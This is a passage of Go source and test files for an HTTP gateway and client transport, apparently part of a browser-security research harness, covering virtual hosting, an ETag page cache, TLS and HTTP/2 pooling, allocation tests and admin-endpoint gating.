	return strings.Join(names, ";")
}

// get returns the cached page for the request, if any. Only GETs are
// probed; the gateway never caches mutations. A hit is counted here;
// a miss is counted only when the handler's response turns out
// cacheable (the store site), so probes for uncacheable pages don't
// pollute the hit rate.
func (c *pageCache) get(key pageKey) (*cachedPage, bool) {
	c.mu.RLock()
	page, ok := c.pages[key]
	c.mu.RUnlock()
	if ok {
		c.hits.Add(1)
	}
	return page, ok
}

// cacheable reports whether a response may be stored: a form-free 200
// GET that the handler explicitly marked immutable and that carries no
// Set-Cookie (a response that establishes state is not a pure function
// of its key; a request carrying form fields is not pure either —
// GET-form submissions must always reach the server and its log).
func cacheable(req *web.Request, resp *web.Response) bool {
	if req.Method != "GET" || len(req.Form) > 0 || resp.Status != 200 {
		return false
	}
	if len(resp.Header.Values("Set-Cookie")) > 0 {
		return false
	}
	return strings.Contains(strings.ToLower(resp.Header.Get("Cache-Control")), CacheControlImmutable)
}

// put stores a response under key and returns the entry's ETag, or ""
// when the cache is at capacity and declines the entry. The response
// headers are cloned so later per-request mutation cannot corrupt the
// shared entry.
func (c *pageCache) put(key pageKey, resp *web.Response) string {
	h := fnv.New64a()
	h.Write([]byte(resp.Body))
	page := &cachedPage{
		status:   resp.Status,
		header:   resp.Header.Clone(),
		body:     resp.Body,
		etag:     fmt.Sprintf("\"%016x\"", h.Sum64()),
		origKeys: origKeysValue(resp.Header),
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, exists := c.pages[key]; !exists && len(c.pages) >= maxCachedPages {
		return ""
	}
	c.pages[key] = page
	return page.etag
}

// stats snapshots the counters.
func (c *pageCache) stats() CacheStats {
	c.mu.RLock()
	entries := len(c.pages)
	c.mu.RUnlock()
	return CacheStats{
		Hits:        c.hits.Load(),
		Misses:      c.misses.Load(),
		NotModified: c.notModified.Load(),
		Entries:     entries,
	}
}
