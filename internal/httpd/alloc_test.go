package httpd

import (
	"net/http"
	"strings"
	"testing"

	"repro/internal/origin"
	"repro/internal/raceflag"
	"repro/internal/web"
)

// nullResponseWriter is a ResponseWriter stub with a live header map,
// so header installs behave like net/http's while Write goes nowhere.
type nullResponseWriter struct {
	h      http.Header
	status int
	n      int
}

func (w *nullResponseWriter) Header() http.Header         { return w.h }
func (w *nullResponseWriter) Write(b []byte) (int, error) { w.n += len(b); return len(b), nil }
func (w *nullResponseWriter) WriteHeader(status int)      { w.status = status }

// TestWriteCachedPageAllocs pins the page-cache hit path at zero
// allocations outside net/http's own plumbing: the frozen header value
// slices are installed by reference and the body is written straight
// from the cached byte slice.
func TestWriteCachedPageAllocs(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	g, err := New(Config{Inner: web.NewNetwork()})
	if err != nil {
		t.Fatal(err)
	}
	page := &cachedPage{
		status: 200,
		header: web.Header{
			"Content-Type":  {"text/html"},
			"Cache-Control": {"immutable"},
		},
		body:       []byte("<html><body>cached fixture body</body></html>"),
		etag:       `"00000000deadbeef"`,
		origKeys:   "Content-Type,Cache-Control",
		etagVal:    []string{`"00000000deadbeef"`},
		origKeyVal: []string{"Content-Type,Cache-Control"},
	}
	w := &nullResponseWriter{h: http.Header{}}
	// Warm run populates the header map's buckets; after that, the
	// assignments overwrite existing keys and allocate nothing.
	g.writeCachedPage(w, page)

	allocs := testing.AllocsPerRun(1000, func() {
		g.writeCachedPage(w, page)
	})
	if allocs != 0 {
		t.Fatalf("warm cache-hit serving allocates %.1f times per request, want 0", allocs)
	}
}

// TestTranslateResponseAllocs bounds the client-side header-set
// reconstruction: the keep set is pooled, the X-Escudo-Orig-Keys list
// is cut in place, and value slices are adopted from the net/http
// header map — so a round trip's translation costs only the response
// struct and its header map.
func TestTranslateResponseAllocs(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	hresp := &http.Response{
		StatusCode: 200,
		Header: http.Header{
			"Content-Type":   {"text/html"},
			"Cache-Control":  {"immutable"},
			"Set-Cookie":     {"sess=1; Path=/", "prefs=dark"},
			"Date":           {"Thu, 01 Jan 2026 00:00:00 GMT"},
			"Content-Length": {"64"},
			HeaderGateway:    {"1"},
			HeaderOrigKeys:   {"Content-Type,Cache-Control,Set-Cookie"},
		},
	}
	body := "<html><body>fixture</body></html>"
	translateResponse(hresp, body) // warm the keep-set pool

	allocs := testing.AllocsPerRun(1000, func() {
		translateResponse(hresp, body)
	})
	// One web.Response struct plus one header map; anything above that
	// means the keep-set pooling or slice adoption regressed.
	if allocs > 3 {
		t.Fatalf("translateResponse allocates %.1f times per response, want <= 3", allocs)
	}

	// The diet must not change semantics: plumbing headers are stripped,
	// origin headers (multi-valued included) survive.
	resp := translateResponse(hresp, body)
	if resp.Header.Get("Date") != "" || resp.Header.Get(HeaderGateway) != "" {
		t.Fatalf("plumbing headers leaked through: %+v", resp.Header)
	}
	if got := resp.Header.Values("Set-Cookie"); len(got) != 2 {
		t.Fatalf("Set-Cookie values = %v, want 2 entries", got)
	}
	if resp.Header.Get("Content-Type") != "text/html" {
		t.Fatalf("Content-Type lost: %+v", resp.Header)
	}
}

// TestPprofAdminGating pins the profiling surface's exposure: off by
// default (404 like any unknown admin path), and only on the admin
// host when Config.EnablePprof is set — a web origin's Host header
// must never reach it.
func TestPprofAdminGating(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://pprof-origin.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body>ok</body></html>")
	}))

	off := startGateway(t, n, Config{})
	resp := rawGet(t, off, "", "/debug/pprof/", nil)
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("pprof without EnablePprof: status %d, want 404", resp.StatusCode)
	}

	on := startGateway(t, n, Config{EnablePprof: true})
	resp = rawGet(t, on, "", "/debug/pprof/", nil)
	body := readBody(t, resp)
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, "goroutine") {
		t.Fatalf("pprof index: status %d body %q", resp.StatusCode, body[:min(len(body), 80)])
	}
	resp = rawGet(t, on, "", "/debug/pprof/cmdline", nil)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("pprof cmdline: status %d, want 200", resp.StatusCode)
	}

	// A mounted origin's Host must not expose the profiler even when
	// enabled: the path routes to the origin's handler instead.
	resp = rawGet(t, on, "pprof-origin.example", "/debug/pprof/", nil)
	originBody := readBody(t, resp)
	if strings.Contains(originBody, "goroutine profile") {
		t.Fatalf("pprof leaked onto a web origin's host: %q", originBody)
	}
}
