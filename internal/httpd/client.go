package httpd

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptrace"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/web"
)

// ClientTransport implements web.Transport over real HTTP: every
// round trip dials the gateway's loopback address, names the target
// origin in the Host header, and carries the initiator metadata in
// X-Escudo-Initiator-* headers. Connections are pooled with
// keep-alive, so a session's request stream reuses sockets the way a
// real browser does; Stats exposes the new-vs-reused split.
//
// In TLS mode (NewClientTransportTLS) the wire is https: the request
// URL names the origin host, a custom dialer rewrites every
// connection to the gateway address, and so SNI and certificate
// verification both run against the origin's own name while the bytes
// flow over loopback — the client trusts exactly the gateway CA's
// pool, nothing else.
//
// Redirects are NOT followed here — redirect policy belongs to the
// browser (which must preserve the original initiator across 303
// hops, see browser.loadDepth) — and no cookie jar is attached: the
// mediated jar in the browser is the only cookie store.
type ClientTransport struct {
	addr   string
	tls    bool
	client *http.Client

	requests    atomic.Uint64
	newConns    atomic.Uint64
	reusedConns atomic.Uint64
	h2Requests  atomic.Uint64

	// trace is shared by every round trip: GotConn carries no
	// per-request state, so one ClientTrace serves the whole stream
	// without a per-request closure allocation.
	trace httptrace.ClientTrace
}

var _ web.Transport = (*ClientTransport)(nil)

// ClientStats counts a transport's wire traffic: round trips issued,
// and how many rode a fresh TCP (or TLS) connection vs. a pooled
// keep-alive one.
type ClientStats struct {
	Requests    uint64 `json:"requests"`
	NewConns    uint64 `json:"new_conns"`
	ReusedConns uint64 `json:"reused_conns"`
	// H2Requests counts round trips whose response arrived over a
	// negotiated HTTP/2 stream (hresp.Proto == "HTTP/2.0").
	H2Requests uint64 `json:"h2_requests"`
}

// Proto names the wire protocol the counted traffic predominantly
// rode: "h2" when at least half the round trips were HTTP/2, else
// "h1" (or "" when nothing was counted). Mixed streams happen only
// when snapshots from h1 and h2 transports are summed.
func (s ClientStats) Proto() string {
	switch {
	case s.Requests == 0:
		return ""
	case 2*s.H2Requests >= s.Requests:
		return "h2"
	default:
		return "h1"
	}
}

// ReuseRate is the fraction of round trips that reused a pooled
// connection.
func (s ClientStats) ReuseRate() float64 {
	total := s.NewConns + s.ReusedConns
	if total == 0 {
		return 0
	}
	return float64(s.ReusedConns) / float64(total)
}

// Sub returns the counter delta s-base.
func (s ClientStats) Sub(base ClientStats) ClientStats {
	return ClientStats{
		Requests:    s.Requests - base.Requests,
		NewConns:    s.NewConns - base.NewConns,
		ReusedConns: s.ReusedConns - base.ReusedConns,
		H2Requests:  s.H2Requests - base.H2Requests,
	}
}

// Add sums two snapshots — the cluster supervisor aggregates worker
// transports with it.
func (s ClientStats) Add(o ClientStats) ClientStats {
	return ClientStats{
		Requests:    s.Requests + o.Requests,
		NewConns:    s.NewConns + o.NewConns,
		ReusedConns: s.ReusedConns + o.ReusedConns,
		H2Requests:  s.H2Requests + o.H2Requests,
	}
}

// newPooledClient builds the shared http.Client shape; tlsCfg nil
// means plain HTTP. forceH2 opts the transport into HTTP/2 — it must
// be explicit because a transport with a custom DialContext or
// TLSClientConfig never upgrades on its own (net/http disables the
// automatic h2 wiring the moment either is set).
func newPooledClient(addr string, tlsCfg *tls.Config, forceH2 bool) *http.Client {
	t := &http.Transport{
		ForceAttemptHTTP2:   forceH2,
		MaxIdleConns:        256,
		MaxIdleConnsPerHost: 64,
		IdleConnTimeout:     90 * time.Second,
		TLSClientConfig:     tlsCfg,
	}
	if tlsCfg != nil {
		// Virtual hosting over TLS: the URL (and hence SNI and cert
		// verification) name the origin; the socket always goes to the
		// gateway.
		dialer := &net.Dialer{Timeout: 10 * time.Second}
		t.DialContext = func(ctx context.Context, network, _ string) (net.Conn, error) {
			return dialer.DialContext(ctx, network, addr)
		}
	}
	return &http.Client{
		Transport: t,
		CheckRedirect: func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		},
		Timeout: 30 * time.Second,
	}
}

// newClientTransport finishes construction: the connection-churn trace
// is built once here so RoundTrip never allocates a closure for it.
func newClientTransport(addr string, isTLS bool, client *http.Client) *ClientTransport {
	c := &ClientTransport{addr: addr, tls: isTLS, client: client}
	c.trace.GotConn = func(info httptrace.GotConnInfo) {
		if info.Reused {
			c.reusedConns.Add(1)
		} else {
			c.newConns.Add(1)
		}
	}
	return c
}

// NewClientTransport builds a pooled plain-HTTP client for the
// gateway at addr (as returned by Gateway.Addr).
func NewClientTransport(addr string) *ClientTransport {
	return newClientTransport(addr, false, newPooledClient(addr, nil, false))
}

// NewClientTransportTLS builds a pooled https client for a
// TLS-terminating gateway at addr, verifying its per-origin leaf
// certificates against roots (normally the gateway CA's pool, see
// CA.Pool and LoadCAPool). The transport forces an HTTP/2 attempt:
// the gateway offers h2 via ALPN, so every session multiplexes its
// request stream over one connection per origin instead of a
// keep-alive pool per host.
func NewClientTransportTLS(addr string, roots *x509.CertPool) *ClientTransport {
	cfg := &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12}
	return newClientTransport(addr, true, newPooledClient(addr, cfg, true))
}

// NewClientTransportTLSH1 is NewClientTransportTLS pinned to
// HTTP/1.1: ALPN offers only http/1.1, so the gateway falls back to
// keep-alive connections. The equivalence tests use it to pin that
// verdicts, tallies, and jars are identical across h1 and h2 legs.
func NewClientTransportTLSH1(addr string, roots *x509.CertPool) *ClientTransport {
	cfg := &tls.Config{
		RootCAs:    roots,
		MinVersion: tls.VersionTLS12,
		NextProtos: []string{"http/1.1"},
	}
	return newClientTransport(addr, true, newPooledClient(addr, cfg, false))
}

// Addr returns the gateway address this transport dials.
func (c *ClientTransport) Addr() string { return c.addr }

// TLS reports whether round trips ride https.
func (c *ClientTransport) TLS() bool { return c.tls }

// Stats snapshots the transport's wire counters.
func (c *ClientTransport) Stats() ClientStats {
	return ClientStats{
		Requests:    c.requests.Load(),
		NewConns:    c.newConns.Load(),
		ReusedConns: c.reusedConns.Load(),
		H2Requests:  c.h2Requests.Load(),
	}
}

// WrapNetwork is the canonical "put a socket in front of this
// network" constructor: it mounts every origin of n on a fresh
// gateway listening at addr ("127.0.0.1:0" for an ephemeral loopback
// port) and returns the gateway, a pooled client transport dialing
// it, and a teardown that closes both. cfg.Inner is set from n; when
// cfg.TLS carries a CA the gateway terminates https and the returned
// transport trusts that CA's pool.
func WrapNetwork(n *web.Network, cfg Config, addr string) (*Gateway, *ClientTransport, func(), error) {
	cfg.Inner = n
	g, err := New(cfg)
	if err != nil {
		return nil, nil, nil, err
	}
	if err := g.MountNetwork(n); err != nil {
		return nil, nil, nil, err
	}
	if err := g.Start(addr); err != nil {
		return nil, nil, nil, err
	}
	var ct *ClientTransport
	if cfg.TLS != nil {
		ct = NewClientTransportTLS(g.Addr(), cfg.TLS.Pool())
	} else {
		ct = NewClientTransport(g.Addr())
	}
	cleanup := func() {
		ct.Close()
		g.Close() //nolint:errcheck // teardown; the deadline error is not actionable
	}
	return g, ct, cleanup, nil
}

// Close releases pooled idle connections.
func (c *ClientTransport) Close() {
	if t, ok := c.client.Transport.(*http.Transport); ok {
		t.CloseIdleConnections()
	}
}

// RoundTrip sends the request to the gateway and translates the
// answer back into a web.Response. Gateway-synthesized no-server
// responses are mapped back onto web.ErrNoServer so callers see the
// in-memory error contract.
func (c *ClientTransport) RoundTrip(req *web.Request) (*web.Response, error) {
	target, err := req.TargetOrigin()
	if err != nil {
		return nil, fmt.Errorf("httpd: routing %q: %w", req.URL, err)
	}
	u, err := url.Parse(req.URL)
	if err != nil {
		return nil, fmt.Errorf("httpd: parsing %q: %w", req.URL, err)
	}
	var dial string
	if c.tls {
		// The URL names the origin so SNI and verification do too; the
		// dialer rewrites the socket to the gateway.
		dial = "https://" + hostKey(target) + u.EscapedPath()
	} else {
		dial = "http://" + c.addr + u.EscapedPath()
	}
	if u.RawQuery != "" {
		dial += "?" + u.RawQuery
	}

	// Form fields travel as a urlencoded body for ANY method: the
	// in-memory substrate keeps req.Form distinct from the URL query
	// even on GET form submissions, and the wire must preserve that
	// distinction or server-side handlers (and the request log's Form
	// column — a CSRF verdict input) would diverge by transport.
	var body io.Reader
	if len(req.Form) > 0 {
		body = strings.NewReader(req.Form.Encode())
	}
	hreq, err := http.NewRequest(req.Method, dial, body)
	if err != nil {
		return nil, fmt.Errorf("httpd: building request for %q: %w", req.URL, err)
	}
	// Virtual hosting: the wire connects to the loopback listener, the
	// Host header names the origin.
	hreq.Host = hostKey(target)
	for k, vs := range req.Header {
		for _, v := range vs {
			hreq.Header.Add(k, v)
		}
	}
	if body != nil {
		hreq.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if !req.InitiatorOrigin.IsNull() {
		hreq.Header.Set(HeaderInitiatorOrigin, req.InitiatorOrigin.String())
	}
	if req.InitiatorLabel != "" {
		hreq.Header.Set(HeaderInitiatorLabel, req.InitiatorLabel)
	}
	if req.TraceID != "" {
		hreq.Header.Set(HeaderTrace, req.TraceID)
	}

	// Count connection churn per round trip: GotConn fires once per
	// request with the (possibly pooled) connection actually used. The
	// trace struct is shared; only the context wrapper is per-request.
	c.requests.Add(1)
	hreq = hreq.WithContext(httptrace.WithClientTrace(hreq.Context(), &c.trace))

	hresp, err := c.client.Do(hreq)
	if err != nil {
		return nil, fmt.Errorf("httpd: round trip %s: %w", req.URL, err)
	}
	defer hresp.Body.Close()
	if hresp.ProtoMajor == 2 {
		c.h2Requests.Add(1)
	}
	buf := bodyBufPool.Get().(*bytes.Buffer)
	buf.Reset()
	_, err = buf.ReadFrom(hresp.Body)
	data := buf.String()
	bodyBufPool.Put(buf)
	if err != nil {
		return nil, fmt.Errorf("httpd: reading %s: %w", req.URL, err)
	}
	if hresp.Header.Get(HeaderGateway) == gatewayNoServer {
		return nil, fmt.Errorf("%w: %s (via gateway %s)", web.ErrNoServer, target, c.addr)
	}
	return translateResponse(hresp, data), nil
}

// bodyBufPool recycles the scratch buffers response bodies are read
// into; only the final string conversion allocates per response.
var bodyBufPool = sync.Pool{New: func() any { return new(bytes.Buffer) }}

// keepSetPool recycles the header-key sets translateResponse rebuilds
// from X-Escudo-Orig-Keys — the hottest map allocation on the client
// path before the diet.
var keepSetPool = sync.Pool{New: func() any { return make(map[string]bool, 16) }}

// translateResponse rebuilds the origin's web.Response from the wire.
// When the gateway advertised the origin's own header-key set, every
// header the HTTP plumbing added (Date, Content-Length, sniffed
// Content-Type, the gateway's own markers) is stripped, so the
// response — Set-Cookie attribute strings included — round-trips
// byte-for-byte. Responses from foreign servers (no key list) keep
// all their headers.
//
// Allocation discipline: the keep set is pooled (cleared, not
// reallocated, per response), the key list is walked with strings.Cut
// instead of a Split slice, and the value slices are adopted from
// hresp.Header rather than copied — net/http builds that map fresh
// per response and hands us ownership.
func translateResponse(hresp *http.Response, body string) *web.Response {
	resp := &web.Response{
		Status: hresp.StatusCode,
		Header: make(web.Header, len(hresp.Header)),
		Body:   body,
	}
	var keep map[string]bool
	if list, ok := hresp.Header[HeaderOrigKeys]; ok {
		keep = keepSetPool.Get().(map[string]bool)
		for _, l := range list {
			for l != "" {
				var k string
				k, l, _ = strings.Cut(l, ",")
				if k != "" {
					keep[k] = true
				}
			}
		}
	}
	for k, vs := range hresp.Header {
		if keep != nil && !keep[k] {
			continue
		}
		if keep == nil && (k == HeaderGateway || k == HeaderOrigKeys) {
			continue
		}
		resp.Header[web.CanonicalKey(k)] = vs
	}
	if keep != nil {
		clear(keep)
		keepSetPool.Put(keep)
	}
	return resp
}
