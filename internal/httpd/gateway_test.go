package httpd

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/origin"
	"repro/internal/web"
)

// startGateway builds, mounts, and starts a gateway over the network
// on an ephemeral loopback port, tearing it down with the test.
func startGateway(t *testing.T, n *web.Network, cfg Config) *Gateway {
	t.Helper()
	cfg.Inner = n
	g, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if err := g.MountNetwork(n); err != nil {
		t.Fatalf("MountNetwork: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { g.Close() })
	return g
}

// rawGet issues a GET straight at the listener with a chosen Host
// header, the way an arbitrary HTTP client would.
func rawGet(t *testing.T, g *Gateway, host, pathAndQuery string, hdr map[string]string) *http.Response {
	t.Helper()
	req, err := http.NewRequest("GET", "http://"+g.Addr()+pathAndQuery, nil)
	if err != nil {
		t.Fatalf("NewRequest: %v", err)
	}
	if host != "" {
		req.Host = host
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("GET %s (Host %s): %v", pathAndQuery, host, err)
	}
	return resp
}

func readBody(t *testing.T, resp *http.Response) string {
	t.Helper()
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("reading body: %v", err)
	}
	return string(data)
}

// echoHandler reports what the origin's server saw.
func echoHandler(name string) web.Handler {
	return web.HandlerFunc(func(req *web.Request) *web.Response {
		cookie, _ := req.Cookie("sid")
		return web.HTML(fmt.Sprintf("host=%s path=%s q=%s form=%s sid=%s",
			name, req.Path(), req.Query().Get("q"), req.Form.Get("field"), cookie))
	})
}

func TestVirtualHostingRoutesByHostHeader(t *testing.T) {
	n := web.NewNetwork()
	alpha := origin.MustParse("http://alpha.example")
	beta := origin.MustParse("http://beta.example")
	n.Register(alpha, echoHandler("alpha"))
	n.Register(beta, echoHandler("beta"))
	g := startGateway(t, n, Config{})

	for _, tc := range []struct{ host, want string }{
		{"alpha.example", "host=alpha"},
		{"alpha.example:80", "host=alpha"},
		{"beta.example", "host=beta"},
	} {
		resp := rawGet(t, g, tc.host, "/page?q=7", nil)
		body := readBody(t, resp)
		if resp.StatusCode != 200 || !strings.Contains(body, tc.want) {
			t.Fatalf("Host %s: status %d body %q, want %s", tc.host, resp.StatusCode, body, tc.want)
		}
		if !strings.Contains(body, "path=/page") || !strings.Contains(body, "q=7") {
			t.Fatalf("Host %s: translation lost path/query: %q", tc.host, body)
		}
	}
}

func TestClientTransportRoundTrip(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://app.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		if req.Path() == "/submit" {
			// Form fields must arrive regardless of method — GET form
			// submissions carry them outside the URL query in memory.
			if req.Form.Get("field") != "val" {
				return web.Forbidden("missing form field")
			}
			return web.Redirect(o.URL("/done"))
		}
		if req.InitiatorLabel != "img" || req.InitiatorOrigin != o {
			return web.Forbidden(fmt.Sprintf("initiator lost: %q %s", req.InitiatorLabel, req.InitiatorOrigin))
		}
		resp := web.HTML("ok")
		resp.Header.Add("Set-Cookie", "sid=s3cret; Path=/app; HttpOnly")
		resp.Header.Set("X-Escudo-Maxring", "3")
		return resp
	}))
	g := startGateway(t, n, Config{})
	ct := NewClientTransport(g.Addr())
	defer ct.Close()

	// GET with initiator metadata: must survive the wire into the
	// server-side request (and its log).
	req := web.NewRequest("GET", o.URL("/fetch?x=1"))
	req.InitiatorOrigin = o
	req.InitiatorLabel = "img"
	resp, err := ct.RoundTrip(req)
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	if resp.Status != 200 || resp.Body != "ok" {
		t.Fatalf("GET: status %d body %q", resp.Status, resp.Body)
	}
	// Response headers must round-trip byte-for-byte: the raw
	// Set-Cookie attribute string, the Escudo config header, and no
	// HTTP-plumbing additions (Date, Content-Length, sniffed types).
	if got := resp.Header.Values("Set-Cookie"); len(got) != 1 || got[0] != "sid=s3cret; Path=/app; HttpOnly" {
		t.Fatalf("Set-Cookie mangled: %q", got)
	}
	if got := resp.Header.Get("X-Escudo-Maxring"); got != "3" {
		t.Fatalf("X-Escudo-Maxring lost: %q", got)
	}
	for _, k := range []string{"Date", "Content-Length", HeaderOrigKeys, HeaderGateway} {
		if resp.Header.Get(k) != "" {
			t.Fatalf("plumbing header %s leaked into web.Response", k)
		}
	}

	// POST form: fields travel as a urlencoded body and come back as
	// req.Form on the server side; the 303 is NOT followed by the
	// transport (redirect policy is the browser's).
	post := web.NewRequest("POST", o.URL("/submit"))
	post.Form = url.Values{"field": {"val"}}
	resp, err = ct.RoundTrip(post)
	if err != nil {
		t.Fatalf("POST: %v", err)
	}
	if resp.Status != 303 || resp.Header.Get("Location") != o.URL("/done") {
		t.Fatalf("POST: status %d Location %q, want 303 to /done", resp.Status, resp.Header.Get("Location"))
	}

	// GET forms too: the in-memory substrate keeps Form distinct from
	// the URL query on any method, and the wire must preserve both
	// the handler's view and the request log's Form column.
	getForm := web.NewRequest("GET", o.URL("/submit?q=fromquery"))
	getForm.Form = url.Values{"field": {"val"}}
	resp, err = ct.RoundTrip(getForm)
	if err != nil {
		t.Fatalf("GET form: %v", err)
	}
	if resp.Status != 303 {
		t.Fatalf("GET form: status %d, want 303 (handler saw the form)", resp.Status)
	}
	logged := n.FindRequests(o, func(e web.LogEntry) bool { return e.Path == "/submit" && e.Method == "GET" })
	if len(logged) != 1 || logged[0].Form.Get("field") != "val" {
		t.Fatalf("GET form lost from request log: %+v", logged)
	}

	// The server-side request log looks exactly like in-memory
	// traffic: initiator metadata intact, no plumbing artifacts.
	entries := n.FindRequests(o, func(e web.LogEntry) bool { return e.Path == "/fetch" })
	if len(entries) != 1 {
		t.Fatalf("want 1 logged /fetch, got %d", len(entries))
	}
	if entries[0].InitiatorLabel != "img" || entries[0].InitiatorOrigin != o {
		t.Fatalf("log lost initiator: %+v", entries[0])
	}

	// Unregistered origins keep the in-memory error contract through
	// the gateway: web.ErrNoServer, and a 502 entry in the log.
	missing := origin.MustParse("http://missing.example")
	if _, err := ct.RoundTrip(web.NewRequest("GET", missing.URL("/x"))); err == nil || !strings.Contains(err.Error(), "no server") {
		t.Fatalf("missing origin: want ErrNoServer, got %v", err)
	}
	if logged502 := n.FindRequests(missing, nil); len(logged502) != 1 || logged502[0].Status != 502 {
		t.Fatalf("missing origin not logged as 502: %+v", logged502)
	}
}

func TestAdminEndpoints(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://app.example")
	n.Register(o, echoHandler("app"))
	g := startGateway(t, n, Config{StatsFunc: func() any { return map[string]int{"tasks": 42} }})

	resp := rawGet(t, g, "", "/healthz", nil)
	var health healthzJSON
	if err := json.Unmarshal([]byte(readBody(t, resp)), &health); err != nil {
		t.Fatalf("healthz JSON: %v", err)
	}
	if health.Status != "ok" || health.Origins != 1 {
		t.Fatalf("healthz = %+v", health)
	}

	// Drive some traffic, then read it back from /metricsz.
	rawGet(t, g, "app.example", "/", nil).Body.Close()
	resp = rawGet(t, g, "", "/metricsz", nil)
	body := readBody(t, resp)
	var doc metricszJSON
	if err := json.Unmarshal([]byte(body), &doc); err != nil {
		t.Fatalf("metricsz JSON: %v (%s)", err, body)
	}
	if doc.Gateway.Served != 1 {
		t.Fatalf("metricsz served = %d, want 1", doc.Gateway.Served)
	}
	if len(doc.Origins) != 1 || doc.Origins[0].Origin != "http://app.example" {
		t.Fatalf("metricsz origins = %+v", doc.Origins)
	}
	if !strings.Contains(body, `"tasks":42`) {
		t.Fatalf("metricsz missing engine stats: %s", body)
	}

	// A mounted origin's own /healthz is NOT shadowed by the admin
	// endpoint — vhosts win.
	resp = rawGet(t, g, "app.example", "/healthz", nil)
	if body := readBody(t, resp); !strings.Contains(body, "host=app") {
		t.Fatalf("vhost /healthz hijacked by admin: %q", body)
	}

	// And an UNREGISTERED origin's /healthz is not an admin page
	// either: it takes the fallback path and 502s exactly as the
	// in-memory network would, log entry included — a web-reachable
	// Host must never expose gateway internals.
	resp = rawGet(t, g, "unregistered.example", "/healthz", nil)
	readBody(t, resp)
	if resp.StatusCode != 502 || resp.Header.Get(HeaderGateway) != "no-server" {
		t.Fatalf("unregistered /healthz: status %d marker %q, want 502 no-server",
			resp.StatusCode, resp.Header.Get(HeaderGateway))
	}
	missing := origin.MustParse("http://unregistered.example")
	if logged := n.FindRequests(missing, nil); len(logged) != 1 || logged[0].Status != 502 {
		t.Fatalf("unregistered /healthz not logged as 502: %+v", logged)
	}

	// Unknown paths on the admin host are plain 404s, not fallback
	// round trips under a synthetic origin.
	resp = rawGet(t, g, "", "/nope", nil)
	if readBody(t, resp); resp.StatusCode != 404 {
		t.Fatalf("admin-host unknown path: status %d, want 404", resp.StatusCode)
	}
}

func TestPageCacheAndETag(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://fixture.example")
	var builds atomic64
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		builds.add(1)
		resp := web.HTML("immutable body for " + req.Path())
		resp.Header.Set("Cache-Control", "public, immutable")
		return resp
	}))
	mut := origin.MustParse("http://mutable.example")
	n.Register(mut, echoHandler("mutable"))
	g := startGateway(t, n, Config{})

	// First GET builds; second is served from cache with an ETag.
	r1 := rawGet(t, g, "fixture.example", "/p?a=1", nil)
	readBody(t, r1)
	r2 := rawGet(t, g, "fixture.example", "/p?a=1", nil)
	body := readBody(t, r2)
	if builds.load() != 1 {
		t.Fatalf("handler built %d times, want 1 (second hit cached)", builds.load())
	}
	if body != "immutable body for /p" {
		t.Fatalf("cached body = %q", body)
	}
	etag := r2.Header.Get("Etag")
	if etag == "" {
		t.Fatal("cached response missing ETag")
	}

	// Conditional revalidation: matching If-None-Match yields 304
	// with no body.
	r3 := rawGet(t, g, "fixture.example", "/p?a=1", map[string]string{"If-None-Match": etag})
	if b := readBody(t, r3); r3.StatusCode != 304 || b != "" {
		t.Fatalf("If-None-Match: status %d body %q, want 304 empty", r3.StatusCode, b)
	}

	// Different query is a different key.
	readBody(t, rawGet(t, g, "fixture.example", "/p?a=2", nil))
	if builds.load() != 2 {
		t.Fatalf("query variant not keyed separately: %d builds", builds.load())
	}

	// Unmarked handlers are never cached.
	readBody(t, rawGet(t, g, "mutable.example", "/m", nil))
	readBody(t, rawGet(t, g, "mutable.example", "/m", nil))
	if got := len(n.FindRequests(mut, nil)); got != 2 {
		t.Fatalf("mutable origin served %d from network, want 2 (no caching)", got)
	}

	st := g.Stats().Cache
	if st.Hits < 2 || st.Entries != 2 || st.NotModified != 1 {
		t.Fatalf("cache stats = %+v", st)
	}
	if st.HitRate() <= 0 {
		t.Fatalf("hit rate = %f", st.HitRate())
	}
}

func TestQueueOverflowReturns503(t *testing.T) {
	n := web.NewNetwork()
	slow := origin.MustParse("http://slow.example")
	release := make(chan struct{})
	started := make(chan struct{}, 64)
	n.Register(slow, web.HandlerFunc(func(req *web.Request) *web.Response {
		started <- struct{}{}
		<-release
		return web.HTML("done")
	}))
	fast := origin.MustParse("http://fast.example")
	n.Register(fast, echoHandler("fast"))

	g, err := New(Config{Inner: n})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	if err := g.MountOpts(slow, OriginConfig{Workers: 1, QueueDepth: 1}); err != nil {
		t.Fatalf("MountOpts: %v", err)
	}
	if err := g.Mount(fast); err != nil {
		t.Fatalf("Mount: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { g.Close() })
